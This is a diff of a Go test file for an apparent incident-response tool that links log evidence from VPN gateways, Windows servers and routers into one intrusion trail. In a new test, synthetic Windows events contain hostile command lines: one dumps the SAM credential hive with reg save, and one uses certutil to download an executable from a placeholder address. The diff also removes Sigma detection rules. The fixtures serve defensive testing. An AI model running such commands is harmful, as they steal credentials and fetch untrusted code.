@@ -2,6 +2,7 @@ package accuracy_test
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -10,8 +11,6 @@ import (
 	"testing"
 
 	"github.com/contrail-ir/contrail/evidence"
-	"github.com/contrail-ir/contrail/match"
-	"github.com/contrail-ir/contrail/rules"
 	"github.com/contrail-ir/contrail/sweep"
 	"github.com/contrail-ir/contrail/trail"
 )
@@ -34,20 +33,21 @@ func lay(t testing.TB, files map[string]string) string {
 	return root
 }
 
-// follow traces a folder from starts, with Sigma rules besides those that come with Contrail.
-func follow(t testing.TB, root, sigma string, starts ...string) *trail.Trail {
+// follow traces a folder from starts with the rules that come with Contrail.
+func follow(t testing.TB, root string, starts ...string) *trail.Trail {
 	t.Helper()
-	question := match.Question{BuiltIn: rules.FS}
-	if sigma != "" {
-		path := filepath.Join(t.TempDir(), "rules.yml")
-		if err := os.WriteFile(path, []byte(sigma), 0o644); err != nil {
+	return followSaid(t, root, "", starts...)
+}
+
+// followSaid is follow with what a sources.yaml says of the evidence.
+func followSaid(t testing.TB, root, said string, starts ...string) *trail.Trail {
+	t.Helper()
+	var sources *evidence.Sources
+	if said != "" {
+		var err error
+		if sources, err = evidence.ReadSources(strings.NewReader(said), evidence.Formats()); err != nil {
 			t.Fatal(err)
 		}
-		question.Sigma = []string{path}
-	}
-	set, rejected := match.Load(question)
-	if len(rejected) > 0 && sigma != "" {
-		t.Fatalf("rules were rejected: %+v", rejected)
 	}
 	g, err := trail.NewGraph(trail.Options{TempDir: t.TempDir()})
 	if err != nil {
@@ -55,7 +55,7 @@ func follow(t testing.TB, root, sigma string, starts ...string) *trail.Trail {
 	}
 	defer g.Close()
 	var c collected
-	q := sweep.Question{Roots: []evidence.Root{{Org: "a", Path: root}}, Formats: evidence.Formats(), Rules: set, TempDir: t.TempDir(), Tap: tap{g}, Threads: 2, NoEvent: true}
+	q := sweep.Question{Roots: []evidence.Root{{Org: "a", Path: root}}, Formats: evidence.Formats(), Rules: shipped(), Sources: sources, TempDir: t.TempDir(), Tap: tap{g}, Threads: 2, NoEvent: true}
 	if err := sweep.Run(context.Background(), q, &c, nil); err != nil {
 		t.Fatal(err)
 	}
@@ -147,18 +147,27 @@ func TestAnAssignedAddressLeadsToTheRemoteSession(t *testing.T) {
 		"strongSwan": {map[string]string{"gw/charon.log": "2026-03-16T08:00:00+00:00 gw1 charon: 07[IKE] <ra|3> IKE_SA ra[3] established between 198.51.100.1[gw]...203.0.113.9[svc-x]\n" +
 			"2026-03-16T08:00:01+00:00 gw1 charon: 07[IKE] <ra|3> assigning virtual IP 10.9.0.7 to peer 'svc-x'\n" +
 			"2026-03-17T09:00:01+00:00 gw1 charon: 07[IKE] <ra|4> assigning virtual IP 10.9.0.7 to peer 'alice'\n"}, []string{"gw/charon.log:1", "gw/charon.log:2"}, []string{"gw/charon.log:3"}},
+		"NetScaler": {map[string]string{"gw/ns.log": "Mar 16 08:00:00 <local0.info> 10.0.0.9 03/16/2026:08:00:00 GMT gw1 0-PPE-0 : default SSLVPN LOGIN 11590 0 : Context svc-x@203.0.113.9 - SessionId: 15 - User svc-x - Client_ip 203.0.113.9 - Nat_ip 10.9.0.7 - Vserver 198.51.100.1:443 - SSLVPN_client_type Agent\n" +
+			"Mar 16 09:00:00 <local0.info> 10.0.0.9 03/16/2026:09:00:00 GMT gw1 0-PPE-0 : default SSLVPN LOGOUT 11690 0 : Context svc-x@203.0.113.9 - SessionId: 15 - User svc-x - Client_ip 203.0.113.9 - Nat_ip 10.9.0.7 - Vserver 198.51.100.1:443 - Duration 01:00:00 - Total_bytes_send 5\n" +
+			"Mar 17 09:00:00 <local0.info> 10.0.0.9 03/17/2026:09:00:00 GMT gw1 0-PPE-0 : default SSLVPN LOGIN 11790 0 : Context alice@198.51.100.4 - SessionId: 17 - User alice - Client_ip 198.51.100.4 - Nat_ip 10.9.0.7 - Vserver 198.51.100.1:443 - SSLVPN_client_type Agent\n"},
+			[]string{"gw/ns.log:1", "gw/ns.log:2"}, []string{"gw/ns.log:3"}},
+		"Pulse Connect Secure": {map[string]string{"gw/pulse.log": "2026-03-16T07:59:58Z gw1 PulseSecure: 2026-03-16 07:59:58 - ive - [203.0.113.9] Default Network::svc-x(Users)[Staff] - Login succeeded for svc-x/Users (session:0a1b) from 203.0.113.9 with Mozilla/5.0.\n" +
+			"2026-03-16T08:00:00Z gw1 PulseSecure: 2026-03-16 08:00:00 - ive - [203.0.113.9] Default Network::svc-x(Users)[Staff] - VPN Tunneling: Session started for user with IPv4 address 10.9.0.7, hostname PC1\n" +
+			"2026-03-16T09:00:00Z gw1 PulseSecure: 2026-03-16 09:00:00 - ive - [203.0.113.9] Default Network::svc-x(Users)[Staff] - VPN Tunneling: Session ended for user with IPv4 address 10.9.0.7\n" +
+			"2026-03-17T09:00:00Z gw1 PulseSecure: 2026-03-17 09:00:00 - ive - [198.51.100.4] Default Network::alice(Users)[Staff] - VPN Tunneling: Session started for user with IPv4 address 10.9.0.7, hostname PC2\n"},
+			[]string{"gw/pulse.log:2", "gw/pulse.log:1", "gw/pulse.log:3"}, []string{"gw/pulse.log:4"}},
 		"a table of no known product": {map[string]string{"gw/export.csv": "time,username,client_ip,assigned_ip,action,session_id\n2026-03-16T08:00:00Z,svc-x,203.0.113.9,10.9.0.7,connected,77\n2026-03-16T09:00:00Z,svc-x,203.0.113.9,10.9.0.7,disconnected,77\n2026-03-17T09:00:00Z,alice,198.51.100.4,10.9.0.7,connected,78\n"},
 			[]string{"gw/export.csv:2", "gw/export.csv:3"}, []string{"gw/export.csv:4"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			x.files["res1/auth.log"] = sessionOnServer
-			out := follow(t, lay(t, x.files), "", "res1/auth.log:1")
+			out := follow(t, lay(t, x.files), "res1/auth.log:1")
 			checkTouched(t, out, append(x.want, "res1/auth.log:1"), append(x.not, "res1/auth.log:2"))
 			if !slices.ContainsFunc(out.Nodes, func(n trail.NodeView) bool { return n.Kind == "address" && n.Label == "203.0.113.9" }) {
 				t.Error("where the session came from is missing")
 			}
 			// And from the gateway's side: what was done from the address within.
-			checkTouched(t, follow(t, lay(t, x.files), "", x.want[0]), []string{"res1/auth.log:1"}, append(x.not, "res1/auth.log:2"))
+			checkTouched(t, follow(t, lay(t, x.files), x.want[0]), []string{"res1/auth.log:1"}, append(x.not, "res1/auth.log:2"))
 		})
 	}
 }
@@ -191,8 +200,45 @@ date=2026-03-01 time=08:00:00 devname="gw1" devid="FG1" logid="0100044547" type=
 	} {
 		t.Run(name, func(t *testing.T) {
 			x.files["res1/auth.log"] = sessionOnServer
-			checkTouched(t, follow(t, lay(t, x.files), "", x.start), x.want, append(x.not, "res1/auth.log:2"))
+			checkTouched(t, follow(t, lay(t, x.files), x.start), x.want, append(x.not, "res1/auth.log:2"))
 		})
+	}
+}
+
+// TestFindingsAtTheWayInAndAfterItAreOneIntrusion: one rule finds the account that was made on a gateway, others what was done on a server from its tunnel.
+// The walks meet at the address that the gateway gave, which passes each of them only while it was given.
+func TestFindingsAtTheWayInAndAfterItAreOneIntrusion(t *testing.T) {
+	security := func(id int, at string, data ...string) string {
+		pairs := map[string]string{}
+		for i := 0; i+1 < len(data); i += 2 {
+			pairs[data[i]] = data[i+1]
+		}
+		text, err := json.Marshal(map[string]any{"@timestamp": "2026-03-16T" + at + "Z", "winlog": map[string]any{"channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing", "event_id": id,
+			"record_id": 100, "computer_name": "res1.air.example", "event_data": pairs}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(text) + "\n"
+	}
+	runs := func(at, pid, parent, image, command string) string {
+		return security(4688, at, "SubjectLogonId", "0x5abc", "SubjectUserName", "adm", "NewProcessId", pid, "NewProcessName", `C:\Windows\System32\`+image, "CommandLine", command, "ProcessId", parent, "ParentProcessName", `C:\Windows\explorer.exe`)
+	}
+	out := follow(t, lay(t, map[string]string{
+		"gw/forti.log": `date=2026-03-16 time=07:55:00 devname="gw1" devid="FG1" logid="0100044547" type="event" subtype="system" level="information" logdesc="Object attribute configured" user="svc-x" ui="jsconsole" remip=203.0.113.9 action="Add" cfgpath="user.local" cfgobj="svc-x" msg="Add user.local svc-x"
+date=2026-03-16 time=08:00:00 devname="gw1" devid="FG1" logid="0101039424" type="event" subtype="vpn" level="information" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=11 remip=203.0.113.9 tunnelip=10.9.0.7 user="svc-x"
+`,
+		"res1/security.json": security(4624, "08:20:00", "TargetLogonId", "0x5abc", "TargetUserName", "adm", "LogonType", "10", "IpAddress", "10.9.0.7", "IpPort", "50122", "WorkstationName", "-") +
+			runs("08:21:00", "0x600", "0x500", "reg.exe", `reg save hklm\sam C:\ProgramData\s.hiv`) +
+			runs("08:22:00", "0x700", "0x500", "certutil.exe", `certutil -urlcache -split -f http://203.0.113.77/a C:\ProgramData\a.exe`),
+	}))
+	checkTouched(t, out, []string{"gw/forti.log:1", "gw/forti.log:2", "res1/security.json:1", "res1/security.json:2", "res1/security.json:3"}, nil)
+	for _, s := range out.Starts {
+		if !s.Established {
+			t.Errorf("%s stands apart: %s", s.Start, s.Why)
+		}
+	}
+	if !out.Established || out.Access.Host != "gw1" {
+		t.Errorf("established %t, %s; way in %+v", out.Established, out.Why, out.Access)
 	}
 }
 
@@ -253,47 +299,11 @@ func TestALetterIsFoundByWhatItBrought(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			x.files["ws7/sysmon.json"] = documentOpened(path)
-			out := follow(t, lay(t, x.files), "", "ws7/sysmon.json:3")
+			out := follow(t, lay(t, x.files), "ws7/sysmon.json:3")
 			checkTouched(t, out, append(x.want, "ws7/sysmon.json:3"), x.not)
 		})
 	}
 }
-
-// linuxRules are two of level high of a kind that everybody has for Linux.
-const linuxRules = `title: Program run from a folder for passing files
-id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0001
-status: experimental
-logsource:
-    product: linux
-    service: auditd
-detection:
-    selection:
-        type: SYSCALL
-        SYSCALL: execve
-        exe|startswith: '/tmp/'
-    condition: selection
-level: high
-tags:
-    - attack.execution
-    - attack.t1059.004
----
-title: Shell of a web server's account
-id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0002
-status: experimental
-logsource:
-    product: linux
-    service: auditd
-detection:
-    selection:
-        exe|endswith: '/dash'
-        uid: '33'
-    condition: selection
-level: high
-tags:
-    - attack.persistence
-    - attack.initial-access
-    - attack.t1505.003
-`
 
 // call is an event of the audit daemon.
 func call(serial int, at float64, pid, ppid, uid int, exe string, more ...string) string {
@@ -339,7 +349,7 @@ func TestLinuxAndWebLogsAlone(t *testing.T) {
 		if start != "" {
 			starts = []string{start}
 		}
-		out := follow(t, root, linuxRules, starts...)
+		out := follow(t, root, starts...)
 		t.Logf("from %q: %s; %+v; %+v", start, out.Why, out.Access, out.Unseen)
 		checkTouched(t, out, want, not)
 		if !out.Established || out.Access.Technique != "T1190" {
@@ -362,57 +372,32 @@ func TestADeviceThatIsPassedThroughIsARelay(t *testing.T) {
 	tac := func(at, command string) string {
 		return strings.Join([]string{at, "rtr1", "netops", "tty2", "203.0.113.9", "stop", "task_id=7", "service=shell", "priv-lvl=15", "cmd=" + command + " <cr>"}, "\t") + "\n"
 	}
+	accounting := map[string]string{"aaa/tac_plus.acct": tac("Mon Mar 16 08:01:00 2026", "interface Tunnel61") + tac("Mon Mar 16 08:01:10 2026", "tunnel destination 198.51.100.77"),
+		"net/rtr1.log": "2026-03-16T08:00:00+00:00 rtr1 %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 203.0.113.9] [localport: 22] at 08:00:00 UTC Mon Mar 16 2026\n"}
 	for name, x := range map[string]struct {
 		files map[string]string
+		said  string
 		want  []string
 	}{
-		"TACACS+": {map[string]string{"aaa/tac_plus.acct": tac("Mon Mar 16 08:01:00 2026", "interface Tunnel61") + tac("Mon Mar 16 08:01:10 2026", "tunnel destination 198.51.100.77"),
-			"net/rtr1.log": "2026-03-16T08:00:00+00:00 rtr1 %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 203.0.113.9] [localport: 22] at 08:00:00 UTC Mon Mar 16 2026\n"},
+		"TACACS+": {accounting, "", []string{"net/rtr1.log:1", "aaa/tac_plus.acct:1", "aaa/tac_plus.acct:2"}},
+		"TACACS+ of a server that has a name": {accounting, "sources:\n  - path: aaa/tac_plus.acct\n    host: aaa1.example.com\n",
 			[]string{"net/rtr1.log:1", "aaa/tac_plus.acct:1", "aaa/tac_plus.acct:2"}},
 		"the device's own log": {map[string]string{"net/rtr1.log": "2026-03-16T08:00:00+00:00 rtr1 %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 203.0.113.9] [localport: 22] at 08:00:00 UTC Mon Mar 16 2026\n" +
 			"2026-03-16T08:01:00+00:00 rtr1 %PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:interface Tunnel61\n2026-03-16T08:01:10+00:00 rtr1 %PARSER-5-CFGLOG_LOGGEDCMD: User:netops  logged command:tunnel destination 198.51.100.77\n"},
-			[]string{"net/rtr1.log:1", "net/rtr1.log:2", "net/rtr1.log:3"}},
+			"", []string{"net/rtr1.log:1", "net/rtr1.log:2", "net/rtr1.log:3"}},
 	} {
 		t.Run(name, func(t *testing.T) {
-			// Two rules of level high, so that there is a verdict and with it the infrastructure.
-			out := follow(t, lay(t, x.files), routerRules, "net/rtr1.log:1")
-			checkTouched(t, out, x.want, nil)
-			roles := map[string]string{}
-			for _, p := range out.Infrastructure {
-				roles[p.Value] = p.Kind + " " + p.Role
-			}
-			if roles["203.0.113.9"] != "address first-hop" || roles["198.51.100.77"] != "address relay" || roles["rtr1"] != "device relay" || out.Access.Technique != "T1078" {
-				t.Errorf("established %t (%s), places %v, way in %+v", out.Established, out.Why, roles, out.Access)
+			for _, starts := range [][]string{{"net/rtr1.log:1"}, nil} {
+				out := followSaid(t, lay(t, x.files), x.said, starts...)
+				checkTouched(t, out, x.want, nil)
+				roles := map[string]string{}
+				for _, p := range out.Infrastructure {
+					roles[p.Value] = p.Kind + " " + p.Role
+				}
+				if roles["203.0.113.9"] != "address first-hop" || roles["198.51.100.77"] != "address relay" || roles["rtr1"] != "device relay" || out.Access.Technique != "T1078" {
+					t.Errorf("from %v: established %t (%s), places %v, way in %+v", starts, out.Established, out.Why, roles, out.Access)
+				}
 			}
 		})
 	}
 }
-
-const routerRules = `title: Router administered from the internet
-id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0003
-status: experimental
-logsource:
-    product: cisco
-detection:
-    selection:
-        src_ip: '203.0.113.9'
-    condition: selection
-level: high
-tags:
-    - attack.initial-access
-    - attack.t1078
----
-title: Tunnel put into a router
-id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0004
-status: experimental
-logsource:
-    product: cisco
-detection:
-    selection:
-        command|contains: 'tunnel destination'
-    condition: selection
-level: high
-tags:
-    - attack.command-and-control
-    - attack.t1090.002
-`
